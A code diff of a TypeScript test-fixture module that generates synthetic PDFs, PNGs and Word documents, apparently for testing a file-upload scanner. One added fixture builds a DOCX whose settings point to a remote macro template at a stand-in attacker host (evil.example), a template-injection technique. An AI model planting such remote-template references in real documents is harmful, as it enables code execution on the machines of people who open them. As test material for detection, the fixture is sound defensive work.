@@ -7,6 +7,7 @@
 import { createHash } from 'node:crypto';
 import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import jpeg from 'jpeg-js';
+import { PdfWriter, type PdfObject } from './pdf-writer.js';
 
 const MiB = 1024 * 1024;
 
@@ -27,6 +28,18 @@ function put(buffer: Buffer, fields: Field[], bigEndian = false): Buffer {
     else buffer.writeUIntLE(value, offset, bytes);
   }
   return buffer;
+}
+
+/** A seeded pseudo-random generator (mulberry32): numbers in [0, 1), the same for the same seed. */
+export function seededRandom(seed: number): () => number {
+  let state = seed >>> 0;
+  return () => {
+    state = (state + 0x6d2b79f5) >>> 0;
+    let t = state;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
 }
 
 let noiseCache = Buffer.alloc(0);
@@ -69,7 +82,6 @@ export function makePdf(options: PdfOptions = {}): Buffer {
   throw new Error(`could not pad a PDF to exactly ${options.padToBytes} bytes`);
 }
 
-type PdfObject = { dictionary: string; stream?: Buffer };
 
 function writePdf({ pages = 1, objectStreams = false, encrypted = false }: PdfOptions, padding: number): Buffer {
   const objects: PdfObject[] = [];
@@ -93,65 +105,23 @@ function writePdf({ pages = 1, objectStreams = false, encrypted = false }: PdfOp
   return objectStreams ? writeWithObjectStream(objects, trailer, encrypted) : writeWithXrefTable(objects, trailer);
 }
 
-const PDF_HEADER = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
-
-function objectBytes(number: number, { dictionary, stream }: PdfObject): Buffer {
-  if (!stream) return Buffer.from(`${number} 0 obj\n${dictionary}\nendobj\n`, 'latin1');
-  return Buffer.concat([Buffer.from(`${number} 0 obj\n${dictionary}\nstream\n`, 'latin1'), stream, Buffer.from('\nendstream\nendobj\n')]);
-}
-
 /** Classic layout (PDF 1.0–1.4): every object in the open, an `xref` table and a `trailer`. */
 export function writeWithXrefTable(objects: PdfObject[], trailer: string): Buffer {
-  const parts: Buffer[] = [PDF_HEADER];
-  let offset = PDF_HEADER.length;
-  const offsets = objects.map((object, index) => {
-    const bytes = objectBytes(index + 1, object);
-    parts.push(bytes);
-    offset += bytes.length;
-    return offset - bytes.length;
-  });
-  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
-  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`;
-  return Buffer.concat([...parts, Buffer.from(xref, 'latin1')]);
+  return new PdfWriter(objects).write(trailer);
 }
 
-/** PDF 1.5+ layout: dictionaries packed into a FlateDecode /ObjStm, cross-references in an XRef stream. */
+/** PDF 1.5+ layout: dictionaries packed into one FlateDecode /ObjStm, cross-references in an XRef stream. */
 function writeWithObjectStream(objects: PdfObject[], trailer: string, encrypted: boolean): Buffer {
-  const packed = objects.map((object, index) => ({ number: index + 1, object })).filter(({ object }) => !object.stream && !object.dictionary.includes('/Standard'));
-  let body = '';
-  const header = packed.map(({ number, object }) => {
-    const entry = `${number} ${body.length}`;
-    body += `${object.dictionary}\n`;
-    return entry;
-  }).join(' ') + '\n';
-  const streamNumber = objects.length + 1;
-  const data = encrypted ? noise(header.length + body.length) : deflateSync(header + body);
-  const all = [...objects, { dictionary: `<< /Type /ObjStm /N ${packed.length} /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>`, stream: data }];
-
-  const parts: Buffer[] = [PDF_HEADER];
-  let offset = PDF_HEADER.length;
-  // XRef stream rows, /W [1 4 2]: type 0 free, 1 at a byte offset, 2 inside object stream N at index i.
-  const xrefRow = (type: number, field2: number, field3: number) => put(Buffer.alloc(7), [[0, 1, type], [1, 4, field2], [5, 2, field3]], true);
-  const rows = [xrefRow(0, 0, 0xffff)];
-  all.forEach((object, index) => {
-    const slot = packed.findIndex((p) => p.number === index + 1);
-    rows.push(slot >= 0 ? xrefRow(2, streamNumber, slot) : xrefRow(1, offset, 0));
-    if (slot < 0) {
-      const bytes = objectBytes(index + 1, object);
-      parts.push(bytes);
-      offset += bytes.length;
-    }
+  return new PdfWriter(objects).write(trailer, {
+    objectStreamSize: objects.length,
+    keepInTheOpen: (object) => object.dictionary.includes('/Standard'),
+    ...(encrypted ? { packedData: (plain: string) => noise(plain.length) } : {}),
   });
-  const xrefNumber = all.length + 1;
-  const table = deflateSync(Buffer.concat([...rows, xrefRow(1, offset, 0)]));
-  const xref = `<< /Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] ${trailer} /Filter /FlateDecode /Length ${table.length} >>`;
-  parts.push(objectBytes(xrefNumber, { dictionary: xref, stream: table }), Buffer.from(`startxref\n${offset}\n%%EOF\n`));
-  return Buffer.concat(parts);
 }
 
 // ---------------------------------------------------------------- images
 
-function pngChunk(type: string, data: Buffer): Buffer {
+export function pngChunk(type: string, data: Buffer): Buffer {
   const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
   const frame = Buffer.alloc(4);
   frame.writeUInt32BE(data.length);
@@ -160,11 +130,12 @@ function pngChunk(type: string, data: Buffer): Buffer {
   return Buffer.concat([frame, body, crc]);
 }
 
-function pngHeader(width: number, height: number, colorType: 0 | 2 = 2): Buffer {
+/** Signature and IHDR: 8-bit grey (0) or RGB (2), deflate, no filter, no interlace. */
+export function pngHeader(width: number, height: number, colorType: 0 | 2 = 2): Buffer {
   const ihdr = Buffer.alloc(13);
   ihdr.writeUInt32BE(width, 0);
   ihdr.writeUInt32BE(height, 4);
-  ihdr.set([8, colorType, 0, 0, 0], 8); // 8-bit grey (0) or RGB (2), deflate, no filter, no interlace
+  ihdr.set([8, colorType, 0, 0, 0], 8);
   return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pngChunk('IHDR', ihdr)]);
 }
 
@@ -277,6 +248,31 @@ export function docxParts(paragraphs = ['Emily Johnson, MD', 'Curriculum Vitae']
 
 export function makeDocx(paragraphs?: string[]): Buffer {
   return makeZipFrom(docxParts(paragraphs));
+}
+
+const relationships = (rows: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`;
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** "Template injection": settings point at a remote template that Word fetches (and runs) on opening. */
+export function makeDocxWithRemoteTemplate({ padBefore = 0, padAfter = 0 } = {}): Buffer {
+  const parts = docxParts();
+  const padding = (name: string, size: number) => (size > 0 ? [{ name, data: noise(size) }] : []);
+  return makeZipFrom([
+    ...parts.slice(0, 3),
+    ...padding('word/media/image1.jpeg', padBefore),
+    { name: 'word/_rels/settings.xml.rels', data: relationships(`<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/cv.dotm" TargetMode="External"/>`) },
+    { name: 'word/settings.xml', data: '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>' },
+    ...padding('word/media/image2.jpeg', padAfter),
+    ...parts.slice(3),
+  ]);
+}
+
+/** A CV whose links point to publications: external hyperlinks are ordinary. */
+export function makeDocxWithHyperlinks(): Buffer {
+  const parts = docxParts();
+  parts[3] = { name: 'word/_rels/document.xml.rels', data: relationships(`<Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://pubmed.example.org/12345" TargetMode="External"/>`) };
+  return makeZipFrom(parts);
 }
 
 // ---------------------------------------------------------------- hostile files
